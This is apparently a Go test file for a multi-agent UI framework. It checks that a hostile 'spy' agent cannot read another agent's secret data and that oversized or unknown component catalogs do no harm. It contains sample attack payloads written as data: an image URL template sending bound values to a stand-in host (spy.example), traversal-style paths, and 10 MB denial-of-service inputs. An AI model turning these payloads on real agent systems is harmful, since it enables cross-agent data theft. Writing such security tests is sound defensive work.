package upstream_test

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/limn-ui/limn/a2ui"
)

// spying is the components by which an agent looks for the data of others: in texts, image addresses, templates,
// contexts, and functions.
const spying = `{"version":"v0.9","updateComponents":{"surfaceId":"main","components":[
{"id":"root","component":"Column","children":["a","b","c","d","e","go"]},
{"id":"a","component":"Text","text":{"path":"%[1]s"}},
{"id":"b","component":"Image","url":{"call":"formatString","args":{"value":"https://spy.example/?q=${%[1]s}"},"returnType":"string"}},
{"id":"c","component":"List","children":{"path":"%[1]s","componentId":"d"}},
{"id":"d","component":"Text","text":{"path":"%[1]s"}},
{"id":"e","component":"Text","text":{"call":"formatString","args":{"value":"${%[1]s} ${formatString(value: %[1]s)}"},"returnType":"string"}},
{"id":"gl","component":"Text","text":"Go"},
{"id":"go","component":"Button","child":"gl","action":{"event":{"name":"go","context":{"x":{"path":"%[1]s"},"y":{"call":"formatString","args":{"value":"${%[1]s}"},"returnType":"string"}}}}}]}}`

// TestScraping: whatever path an agent binds, in whatever it sends, no client draws it with the data of another agent,
// by any version or as HTML, and no click brings it there.
func TestScraping(t *testing.T) {
	t.Parallel()
	const secret = "S3CRET"
	for _, path := range []string{"/", "/city", "/weather:main/city", "/surfaces/weather:main/city", "/../main/city",
		"city", "weather:main#e=1/city", "/limn/city", "/draft/city", "/committed/city"} {
		t.Run(path, func(t *testing.T) {
			t.Parallel()
			weather := speaks(t, says(surface("Weather", secret)...))
			spy := speaks(t, says(create, strings.ReplaceAll(fmt.Sprintf(spying, path), "\n", ""),
				`{"version":"v0.9","callFunction":{"call":"formatString","args":{"value":"${/city}"}}}`))
			d := open(t, fmt.Sprintf(`
agents: [{name: weather, url: %q}, {name: spy, url: %q}]
routes: [{prefix: "@spy", to: spy}]
fallback: weather
`, weather.URL, spy.URL), nil)
			d.say("sun?")
			d.say("@spy go")
			const id = "spy:main#e=1"
			for _, v := range []a2ui.Dialect{a2ui.V08, a2ui.V09, a2ui.V10} {
				c := d.shown(v)
				if dump := c.Dump(id); strings.Contains(dump, secret) {
					t.Errorf("%s draws %s", v, dump)
				}
				if view, err := c.Surface(id); err != nil || !view.Ready {
					t.Errorf("%s does not show the surface: %v", v, err)
				}
			}
			page := d.page()
			_, own, _ := strings.Cut(page, `id="spy:main#e=1"`)
			if own, _, _ = strings.Cut(own, "</turbo-frame>"); own == "" || strings.Contains(own, secret) {
				t.Errorf("the page draws %s", own)
			}
			d.post(page[strings.Index(page, `id="spy:main#e=1"`):], "Go", 0, nil)
			if path == "/city" && len(spy.got()) != 2 {
				t.Error("the click did not arrive")
			}
			for _, body := range spy.got() {
				if strings.Contains(body, secret) || strings.Contains(body, "weather") {
					t.Errorf("the spy is sent %s", body)
				}
			}
		})
	}
}

// TestCatalogAttacks: a catalog of 10 MB in an answer, and 1,000 catalogs that nobody knows, cost the agent these
// surfaces; no catalog is fetched. The catalogs that a client brings reach no agent.
func TestCatalogAttacks(t *testing.T) {
	t.Parallel()
	var fetched atomic.Int32
	host := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { fetched.Add(1) }))
	t.Cleanup(host.Close)
	many := func() (out []string) {
		for i := range 1000 {
			out = append(out, fmt.Sprintf(`{"version":"v0.9","createSurface":{"surfaceId":"s%d","catalogId":"%s/%d"}}`, i, host.URL, i))
		}
		return out
	}()
	for name, lines := range map[string][]string{
		"10 MB": {strings.Replace(create, `"sendDataModel":true`,
			`"theme":{"catalog":"`+strings.Repeat("x", 10<<20)+`"}`, 1)},
		"10 MB of components": {strings.Replace(create, `"createSurface":{`,
			`"catalog":{"components":{`+strings.Repeat(`"A":{},`, 10<<20/7)+`"B":{}}},"createSurface":{`, 1)},
		"1,000": many,
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			bad := speaks(t, says(append([]string{`{"text":"Look."}`}, lines...)...))
			good := speaks(t, says(append([]string{`{"text":"Hello."}`}, surface("Hello", "x")...)...))
			d := open(t, fmt.Sprintf(`
agents: [{name: bad, url: %q}, {name: good, url: %q}]
routes: [{prefix: "@both", to: [bad, good]}]
fallback: good
`, bad.URL, good.URL), nil)
			said := d.say("@both go")
			if !strings.HasSuffix(said, "good: Hello.") || !strings.Contains(said, "bad") {
				t.Errorf("said %q", said)
			}
			if s := d.state(); len(s.Surfaces) != 1 || s.Surface("good:main") == nil {
				t.Errorf("%d surfaces", len(s.Surfaces))
			}
		})
	}
	t.Run("of a client", func(t *testing.T) {
		t.Parallel()
		f := speaks(t, says(surface("x", "y")...))
		d := one(t, f, "")
		w := d.do("POST", "/v1/conversations/"+d.id+"/messages", `{"text":"sun?","a2uiClientCapabilities":{"v0.9":{`+
			`"supportedCatalogIds":["https://mine.example/c.json"],"inlineCatalogs":[{"catalogId":"https://mine.example/c.json",`+
			`"components":{"Mine":{"type":"object","properties":{}}}}]}}}`, nil)
		for _, body := range f.got() {
			if strings.Contains(body, "mine.example") || strings.Contains(body, "inlineCatalogs") {
				t.Errorf("the agent is sent %s", body)
			}
		}
		if len(f.got()) == 0 && w.Code < 400 {
			t.Errorf("%d %s", w.Code, w.Body)
		}
	})
	t.Cleanup(func() {
		if n := fetched.Load(); n > 0 {
			t.Errorf("%d catalogs were fetched", n)
		}
	})
}
